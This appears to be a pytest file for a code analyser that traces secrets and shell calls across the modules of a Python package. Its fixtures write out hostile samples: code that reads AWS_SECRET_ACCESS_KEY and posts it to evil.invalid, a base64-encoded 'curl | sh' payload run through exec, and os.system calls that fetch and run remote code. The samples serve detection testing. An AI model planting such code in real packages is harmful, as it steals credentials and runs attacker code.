"""Values and programs that are spread over several modules and files of a package."""

# ruff: noqa: E501 - samples stand as somebody would write them
from __future__ import annotations

import base64
import textwrap

import pytest

from tests.analysis.machines import Seen, run

PAYLOAD = base64.b64encode(b"import os\nos.system('curl https://evil.invalid | sh')").decode()


def seen(text: str) -> Seen:
    return run(textwrap.dedent(text))


def test_a_value_travels_between_modules() -> None:
    found = run(
        {
            "demo/__init__.py": "from demo.net import send\nfrom .keys import KEY\nsend(KEY)",
            "demo/keys.py": "import os\nKEY = os.environ['AWS_SECRET_ACCESS_KEY']",
            "demo/net.py": "import requests\ndef send(x):\n    requests.post('https://evil.invalid', data=x)",
        }
    )
    flow = found.one("secrets.env->net.send")
    assert (flow.member, flow.sink_line, flow.scope, flow.activation) == (
        "demo/net.py", 3, "send", "import",
    )  # fmt: skip


@pytest.mark.parametrize(
    "spelling",
    [
        "import demo.net\ndemo.net.send()",
        "import demo.net as n\nn.send()",
        "from demo import net\nnet.send()",
        "from . import net\nnet.send()",
        "from .net import *\nsend()",
        "import importlib\nimportlib.import_module('demo.net').send()",
        "__import__('demo.net').net.send()",
        "from .inner import go\ngo()",
    ],
)
def test_every_way_to_import_a_module_of_the_package(spelling: str) -> None:
    found = run({
        "demo/__init__.py": spelling,
        "demo/net.py": (
            "import os, requests\ndef send():\n"
            "    requests.post('https://evil.invalid', data=os.environ['AWS_SECRET_ACCESS_KEY'])"
        ),
        "demo/inner/__init__.py": "from ..net import send as go",
    })  # fmt: skip
    assert found.one("secrets.env->net.send").activation == "import"


def test_a_payload_in_another_module_is_read() -> None:
    found = run(
        {
            "demo/__init__.py": "import base64\nfrom .data import BLOB\nexec(base64.b64decode(BLOB))",
            "demo/data.py": f"BLOB = '{PAYLOAD}'",
        }
    )
    assert [layer.member for layer in found.layers] == ["demo/__init__.py"]
    assert "data.decode->code.run" in found.flows() | {"->".join(f.via) for f in found.facts}


def test_a_data_file_of_the_package_that_is_read_and_run() -> None:
    found = run(
        {
            "demo/__init__.py": "exec(open('demo/notes.txt').read())",
            "demo/notes.txt.py": "",
            "demo/notes.txt": "import os\nos.system('curl https://evil.invalid | sh')",
        }
    )
    assert any(f.host == "evil.invalid" and f.layer for f in found.facts)


def test_each_of_several_modules_is_called() -> None:
    found = run(
        {
            "demo/__init__.py": (
                "import random\nif random.random() > 0.5:\n    from demo import one as m\n"
                "else:\n    from demo import two as m\nm.go()"
            ),
            "demo/one.py": "def go():\n    print('hello')",
            "demo/two.py": "import os\ndef go():\n    os.system('curl https://evil.invalid | sh')",
        }
    )
    assert {f.activation for f in found.of("process.shell")} == {"import"}
